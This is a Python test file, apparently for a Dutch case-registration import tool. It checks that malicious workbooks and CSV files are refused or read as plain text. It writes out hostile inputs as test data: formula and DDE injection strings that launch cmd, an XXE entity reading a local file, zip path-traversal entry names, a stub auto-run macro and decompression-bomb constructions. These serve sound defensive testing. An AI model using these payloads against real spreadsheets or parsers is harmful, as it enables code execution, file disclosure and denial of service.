"""Workbooks and CSV files of somebody who means harm: refused, or read as the plain text they are."""

import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from bluevitaal_es.cli.import_ import in_one_line
from bluevitaal_es.importing import xlsx_sheets
from bluevitaal_es.importing.sheets import UnreadableFile
from tests.importing.books import SOUND, csv_file, places, read, with_, workbook

#: What a spreadsheet would carry out, were it ever given back to one as it stands.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\u00a0=1+1",
    '=HYPERLINK("http://kwaad.example/"&A1;"klik")',
    "=WEBSERVICE(A1)",
    "=DDE(A1;A2;A3)",
)
CHECKED = ("Doelgroep", "Eenheid", "Product", "TSQ", "Datum aanmelding", "Nr", "Anoniem voor politie")
SHEET = "xl/worksheets/sheet1.xml"


def changed(path: Path, *changes: tuple[str, bytes, bytes], added: dict[str, bytes] | None = None) -> Path:
    """Rewrite parts of a workbook and add others, as no spreadsheet would have written it."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    for part, old, new in changes:
        assert old in parts[part]
        parts[part] = parts[part].replace(old, new)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (parts | (added or {})).items():
            archive.writestr(name, content)
    return path


@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("make", [workbook, csv_file])
def test_names_each_cell_with_a_formula_and_takes_nothing_of_its_row(
    tmp_path: Path, make: Callable[..., Path], formula: str
) -> None:
    end = "csv" if make is csv_file else "xlsx"
    rows = [{**with_(Nr=place), column: formula} for place, column in enumerate(CHECKED, start=10)]

    caseload = read(make(tmp_path / f"a.{end}", *rows, with_(Nr=99)))

    assert [registration.number for registration in caseload.registrations] == [99]
    assert places(caseload.errors) >= set(zip(range(2, 9), CHECKED, strict=True))
    lines = [in_one_line(problem) for problem in caseload.problems]
    assert all(line.isprintable() and line.startswith(("fout: ", "melding: ")) for line in lines)


@pytest.mark.parametrize("formula", FORMULAS)
def test_takes_no_formula_over_as_a_remark(tmp_path: Path, formula: str) -> None:
    (registration,) = read(workbook(tmp_path / "a.xlsx", with_(Opmerkingen=formula))).registrations

    assert not (registration.remarks or "").lstrip().startswith("=")


def test_takes_no_text_that_cannot_be_kept(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", with_(Opmerkingen="MARK"), with_(Nr=2, Naam="MARK"))
    changed(path, (SHEET, b"MARK", b"nul&#9;_x0000__xD800_" + "\u202e".encode() + b"x" * 40_000))

    caseload = read(path)

    for registration in caseload.registrations:
        for text in (registration.remarks or "", registration.name or ""):
            text.encode()
            assert "\x00" not in text


def test_follows_no_link_and_runs_no_macro(tmp_path: Path) -> None:
    outside = tmp_path / "geheim.txt"
    outside.write_text("ZQXGEHEIM", encoding="utf-8")
    path = changed(
        workbook(tmp_path / "a.xlsm", with_(Opmerkingen="MARK")),
        (SHEET, b"<worksheet", f'<!DOCTYPE w [<!ENTITY x SYSTEM "{outside.as_uri()}">]><worksheet'.encode()),
        (SHEET, b"MARK", b"a&x;b"),
        added={
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0Attribute VB_Name AutoOpen",
            "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>',
            "../../../../../tmp/zqx-buiten": b"buiten",
            "/etc/zqx-buiten": b"buiten",
        },
    )

    try:
        told = repr(read(path))
    except UnreadableFile as refused:
        told = str(refused)

    assert "ZQXGEHEIM" not in told
    assert not Path("/etc/zqx-buiten").exists()
    assert not (tmp_path.parent / "zqx-buiten").exists()


def test_reads_a_workbook_with_macros_as_one_without(tmp_path: Path) -> None:
    path = changed(
        workbook(tmp_path / "a.xlsm", SOUND),
        (
            "[Content_Types].xml",
            b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        ),
        added={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
    )

    assert len(read(path).registrations) == 1


def bombs() -> Iterator[tuple[str, str, bytes, bytes]]:
    """Yield small workbooks of which the parts are within the limit and what is made of them is not."""
    texts = b"<x:sst>" + b"<x:si/>" * (xlsx_sheets.MOST_TEXTS + 1) + b"</x:sst>"
    yield "texts", "xl/theme/theme1.xml", b"<?xml", texts + b"<?xml"
    merged = b'<mergeCell ref="A1:B2"/>' * (xlsx_sheets.MOST_MERGED + 1)
    yield "areas", SHEET, b"</sheetData>", b"</sheetData><mergeCells>" + merged + b"</mergeCells>"
    styles = b"<xf/>" * (xlsx_sheets.MOST_BYTES_OF_REST // 5 + 1)
    yield "styles", "xl/styles.xml", b"</cellXfs>", styles + b"</cellXfs>"


@pytest.mark.parametrize(("part", "old", "new"), [pytest.param(*rest, id=name) for name, *rest in bombs()])
def test_refuses_a_small_file_that_would_fill_the_memory(
    tmp_path: Path, part: str, old: bytes, new: bytes
) -> None:
    path = changed(workbook(tmp_path / "a.xlsx", SOUND), (part, old, new))
    assert path.stat().st_size < 2**17

    with pytest.raises(UnreadableFile, match=r"te groot|te veel"):
        read(path)


def test_is_not_fooled_by_a_part_that_tells_a_smaller_size(tmp_path: Path) -> None:
    path = changed(
        workbook(tmp_path / "a.xlsx", SOUND), (SHEET, b"</sheetData>", b" " * 2**22 + b"</sheetData>")
    )
    with zipfile.ZipFile(path) as archive:
        told = archive.getinfo(SHEET).file_size.to_bytes(4, "little")
    path.write_bytes(path.read_bytes().replace(told, (4000).to_bytes(4, "little")))

    with pytest.raises(UnreadableFile):
        read(path)


def test_refuses_a_part_that_is_there_twice(tmp_path: Path) -> None:
    path = workbook(tmp_path / "a.xlsx", SOUND)
    with zipfile.ZipFile(path) as archive:
        other = archive.read(SHEET).replace(b"Rotterdam", b"Limburg")
    with zipfile.ZipFile(path, "a") as archive, pytest.warns(UserWarning, match="Duplicate"):
        archive.writestr(SHEET, other)

    with pytest.raises(UnreadableFile, match="geen leesbare"):
        read(path)
